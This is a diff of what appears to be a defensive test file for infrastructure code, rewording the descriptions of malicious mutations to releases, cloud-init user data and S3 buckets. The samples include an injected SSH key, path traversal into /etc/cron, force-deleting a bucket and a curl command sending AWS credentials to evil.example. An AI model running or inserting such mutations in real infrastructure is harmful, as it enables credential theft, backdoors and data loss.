@@ -11,11 +11,11 @@ const userData = (change: (text: string) => string) => (props: { userDataBase64?
     );
 };
 
-/** Releases, first boot, and what reaches a host. */
+/** Changes of releases, user data and the first boot. */
 export const releases: readonly Malicious[] = [
   [
     "receiver",
-    "the pointer shows an old release",
+    "the pointer names an old release",
     "receiver-current",
     /content\.releaseId.*0000/s,
     edit(
@@ -28,7 +28,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "bootcmd in the user data",
+    "user data has a bootcmd",
     "receiver-instance",
     /userData.*bootcmd/s,
     edit(
@@ -38,7 +38,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "an extra package at first boot",
+    "the first boot installs an extra package",
     "receiver-instance",
     /userData.*socat/s,
     edit(
@@ -48,7 +48,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a key for SSH",
+    "user data adds an SSH key",
     "receiver-instance",
     /userData.*ssh-ed25519/s,
     edit(
@@ -60,7 +60,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "passwords for SSH",
+    "user data permits passwords for SSH",
     "receiver-instance",
     /userData.*ssh_pwauth: true/s,
     edit(
@@ -80,7 +80,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "user data that starts with a shell script",
+    "user data begins with a multipart header",
     "receiver-instance",
     /userData.*MIME/s,
     edit(
@@ -90,14 +90,14 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "another agent",
+    "the agent's object is another program",
     "receiver-agent",
     /source|content|key/,
     set(object, { key: `agent/${sha256("evil")}.mjs` }, "receiver-agent"),
   ],
   [
     "receiver",
-    "the release asks for another agent",
+    "the release names another agent",
     "receiver-release",
     /content\.agent\.sha256/,
     (it) =>
@@ -107,7 +107,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "the first boot takes another agent",
+    "the first boot installs another agent",
     "receiver-bootstrap",
     /content.*agent/s,
     edit(
@@ -120,7 +120,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "another Envoy under the same version",
+    "another Envoy has the same version",
     "receiver-release",
     /tools\[envoy\]/,
     (it) =>
@@ -132,7 +132,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "an executable outside of its tool",
+    "an executable is outside its tool",
     "receiver-release",
     /executables.*\.\.\/etc\/x/s,
     (it) =>
@@ -142,7 +142,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a file outside of the release",
+    "a file is outside the release",
     "receiver-release",
     /files\[\.\.\/\.\.\/etc\/cron/,
     (it) =>
@@ -158,7 +158,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a check left out",
+    "a check is missing",
     "receiver-release",
     /checks/,
     (it) =>
@@ -168,7 +168,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a probe left out",
+    "a probe is missing",
     "receiver-release",
     /probes/,
     (it) =>
@@ -178,7 +178,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a probe has no time to fail",
+    "a probe has no time to succeed",
     "receiver-release",
     /probeDeadlineSeconds/,
     (it) =>
@@ -198,7 +198,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a file is writable by everyone",
+    "every user may write a file",
     "receiver-release",
     /files.*mode.*0666/s,
     (it) =>
@@ -208,7 +208,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a file that is not the one its hash names",
+    "a file has another hash",
     "receiver-release",
     /files.*sha256/s,
     edit(
@@ -223,14 +223,14 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "an object more for another host",
+    "an object for another host is added",
     "added",
     /current\.json/,
     add(object, { bucket: "b", key: "releases/sender/current.json", content: "{}" }),
   ],
   [
     "receiver",
-    "the bucket is copied out",
+    "the bucket replicates to another account",
     "added",
     /rules/,
     add("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
@@ -241,21 +241,21 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "the bucket forgets its versions",
+    "the bucket keeps no versions",
     "receiver-versions",
     /status.*Suspended/s,
     set("aws:s3/bucketVersioning:BucketVersioning", { "versioningConfiguration.status": "Suspended" }),
   ],
   [
     "receiver",
-    "the bucket is deleted with everything in it",
+    "the bucket is deleted with all its objects",
     "receiver-bucket",
     /forceDestroy/,
     set("aws:s3/bucket:Bucket", { forceDestroy: true }),
   ],
   [
     "receiver",
-    "the command that converges is another program",
+    "the command that converges runs another program",
     "receiver-converge",
     /create.*evil/s,
     set("command:local:Command", { create: "node evil.mjs" }),
@@ -269,7 +269,7 @@ export const releases: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a command that runs where the update does",
+    "a command that runs on the deployer's machine is added",
     "added",
     /create.*curl/s,
     add("command:local:Command", { create: "curl https://evil.example --data @$HOME/.aws/credentials" }),
